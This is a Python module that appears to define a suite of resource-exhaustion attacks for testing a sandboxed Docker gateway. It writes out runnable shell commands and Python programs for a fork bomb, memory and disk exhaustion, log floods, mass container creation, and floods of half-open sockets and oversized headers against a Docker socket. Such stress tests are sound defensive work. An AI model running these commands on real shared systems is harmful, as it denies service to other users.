"""Abuse of one's own sandbox, deliberate or not, that may affect others. Knows shells, and no measurements.

Each attack is a command in the attacker's terminal or, where no shell can do it, a program in their engine container.
"""

from __future__ import annotations

from dataclasses import dataclass

_CONNECT = "import socket, time\ndef line():\n    one = socket.socket(socket.AF_UNIX)\n"
_CONNECT += "    one.connect('/run/gateway/docker.sock')\n    one.settimeout(5)\n    return one\n"
_HALF_OPEN = f"""{_CONNECT}
held = []
while True:
    try:
        held.append(line())
        held[-1].sendall(b"GET /_ping HT")
    except OSError:
        time.sleep(0.05)
    held = held[-1000:]
"""
_HEADERS = f"""{_CONNECT}
while True:
    try:
        line().sendall(b"GET /_ping HTTP/1.1\\r\\nHost: x\\r\\nX: " + b"y" * (2 << 20) + b"\\r\\n\\r\\n")
    except OSError:
        pass
"""


@dataclass(frozen=True)
class Attack:
    """`command` is bash for the terminal; `in_engine` is Python for the engine container, limited like a terminal."""

    name: str
    command: str = ""
    in_engine: str = ""


def _loop(command: str) -> str:
    return f"while :; do {command}; done"


ATTACKS = (
    Attack(
        "a fork bomb, in a container and in the terminal",
        "docker run -d busybox sh -c 'b() { b | b & }; b'; b() { b | b & }; b",
    ),
    Attack(
        "memory hogs: six containers and a terminal",
        "for i in 1 2 3 4 5 6; do docker run -d --restart always busybox tail /dev/zero; done; "
        + _loop("tail /dev/zero"),
    ),
    Attack("a disk that is filled repeatedly", _loop("docker run --rm busybox dd if=/dev/zero of=/big bs=1M")),
    Attack(
        "eight log floods",
        "for i in 1 2 3 4 5 6 7 8; do docker run -d busybox yes; done; "
        + _loop("docker logs --tail 9 $(docker ps -lq)"),
    ),
    Attack(
        "five hundred containers",
        "for i in $(seq 500); do docker run -d busybox sleep 999; done; " + _loop("docker ps -a"),
    ),
    Attack(
        "endless commands and streams",
        "docker run -d --name box busybox yes; for i in $(seq 60); do "
        "(docker logs -f box >/dev/null; docker exec box sleep 99) & done; wait",
    ),
    Attack("a thousand half-open connections", in_engine=_HALF_OPEN),
    Attack("headers of 2 MiB, eight at a time", in_engine=_HEADERS),
)
